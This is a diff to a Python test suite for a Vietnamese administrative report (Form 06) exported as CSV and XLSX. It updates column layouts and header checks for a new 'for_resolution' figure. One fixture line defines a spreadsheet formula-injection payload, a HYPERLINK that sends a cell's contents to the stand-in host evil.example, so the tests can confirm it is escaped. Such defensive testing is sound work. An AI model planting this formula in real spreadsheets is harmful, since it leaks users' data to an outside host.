@@ -17,7 +17,8 @@ ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")"
 
 
 def figures(n: int, rate: float | None) -> dict:
-    return {"received": {"total": 3 * n, "online": n, "direct_or_postal": 2 * n, "carried_over": n},
+    return {"received": {"total": 3 * n, "online": n, "direct_or_postal": 2 * n, "carried_over": n,
+                         "for_resolution": 2 * n},
             "resolved": {"total": 2 * n, "early": n, "on_time": n, "late": 0},
             "in_progress": {"total": n, "within_deadline": n, "overdue": 0},
             "refused": 0, "withdrawn": n, "stopped": 0, "not_accepted": 1, "guided": 2, "supplement_requests": 3,
@@ -51,7 +52,8 @@ def test_report06_csv_has_a_bom_crlf_one_vietnamese_header_and_the_json_figures(
     rows = list(csv.reader(io.StringIO(text[len(BOM):], newline="")))
     assert rows[0][:3] == ["STT", "Đơn vị", "Mã"]
     assert rows[0][3] == "Số hồ sơ nhận giải quyết - Tổng số"
-    assert rows[0][5] == "Số hồ sơ nhận giải quyết - Mới tiếp nhận trong kỳ - Tổng số"
+    assert rows[0][5] == "Số hồ sơ nhận giải quyết - Trong kỳ nhận giải quyết"
+    assert rows[0][6] == "Số hồ sơ nhận giải quyết - Tiếp nhận tại bộ phận một cửa trong kỳ - Tổng số"
     assert len(set(rows[0])) == len(rows[0]) == 3 + len(report06_files.COLUMNS)
     assert [r[0] for r in rows[1:]] == ["1", "2", "3", ""]
     assert rows[2][1] == NAMES["000.00.99.H56"]  # commas, quotes and a line break survive the quoting
@@ -59,7 +61,9 @@ def test_report06_csv_has_a_bom_crlf_one_vietnamese_header_and_the_json_figures(
     assert rows[4][1] == "Tổng cộng"
     for line, source in zip(rows[1:], [*REPORT["rows"], REPORT["total"]], strict=True):
         got = dict(zip((c.key for c in report06_files.COLUMNS), line[3:], strict=True))
-        assert got["received.total_all"] == str(source["received"]["total"] + source["received"]["carried_over"])
+        assert got["received.total_all"] == str(source["received"]["for_resolution"]
+                                                + source["received"]["carried_over"])
+        assert got["received.for_resolution"] == str(source["received"]["for_resolution"])
         assert got["received.total"] == str(source["received"]["total"])
         assert got["resolved.early"] == str(source["resolved"]["early"])
         assert got["in_progress.within_deadline"] == str(source["in_progress"]["within_deadline"])
@@ -72,20 +76,22 @@ def test_report06_xlsx_is_laid_out_like_form_06_with_typed_figures_and_a_totals_
     ws = ws["Biểu 06"]
     merged = {str(r) for r in ws.merged_cells.ranges}
     top, mid, low = 5, 6, 7
-    # The form's groups: received over five columns (D:H), results over seven (I:O); their subgroups.
-    assert {f"D{top}:H{top}", f"I{top}:O{top}", f"F{mid}:H{mid}", f"I{mid}:L{mid}", f"M{mid}:O{mid}"} <= merged
-    assert {f"A{top}:A{low}", f"D{mid}:D{low}", f"E{mid}:E{low}", f"P{top}:P{low}"} <= merged
-    assert ws[f"D{top}"].value == "Số hồ sơ nhận giải quyết" and ws[f"I{top}"].value == "Kết quả giải quyết"
-    assert ws[f"F{mid}"].value == "Mới tiếp nhận trong kỳ" and ws[f"I{mid}"].value == "Số hồ sơ đã giải quyết"
-    assert [ws.cell(low, c).value for c in range(9, 13)] == ["Tổng số", "Trước hạn", "Đúng hạn", "Quá hạn"]
+    # The form's groups: received over six columns (D:I), results over seven (J:P); their subgroups.
+    assert {f"D{top}:I{top}", f"J{top}:P{top}", f"G{mid}:I{mid}", f"J{mid}:M{mid}", f"N{mid}:P{mid}"} <= merged
+    assert {f"A{top}:A{low}", f"D{mid}:D{low}", f"E{mid}:E{low}", f"F{mid}:F{low}", f"Q{top}:Q{low}"} <= merged
+    assert ws[f"D{top}"].value == "Số hồ sơ nhận giải quyết" and ws[f"J{top}"].value == "Kết quả giải quyết"
+    assert ws[f"F{mid}"].value == "Trong kỳ nhận giải quyết"
+    assert ws[f"G{mid}"].value == "Tiếp nhận tại bộ phận một cửa trong kỳ"
+    assert ws[f"J{mid}"].value == "Số hồ sơ đã giải quyết"
+    assert [ws.cell(low, c).value for c in range(10, 14)] == ["Tổng số", "Trước hạn", "Đúng hạn", "Quá hạn"]
     assert ws[f"A{top}"].alignment.wrap_text and ws.freeze_panes == "D9"
     assert "000.00.24.H56" in ws["A2"].value and "01/03/2026" in ws["A3"].value
     body = [[c.value for c in row] for row in ws.iter_rows(min_row=9)]
     assert len(body) == 4 and body[-1][0] == "Tổng cộng" and f"A{8 + 4}:C{8 + 4}" in merged
     assert body[2][1] == "'" + ATTACK
     total = REPORT["total"]
-    assert body[-1][3] == total["received"]["total"] + total["received"]["carried_over"]
-    assert body[-1][8] == total["resolved"]["total"] and isinstance(body[-1][8], int)
+    assert body[-1][3] == total["received"]["for_resolution"] + total["received"]["carried_over"]
+    assert body[-1][9] == total["resolved"]["total"] and isinstance(body[-1][9], int)
     rate = ws.cell(12, 3 + len(report06_files.COLUMNS))
     assert rate.value == pytest.approx(0.8333) and rate.number_format == "0.00%"
     assert ws.cell(10, 3 + len(report06_files.COLUMNS)).value is None  # nothing resolved: no rate
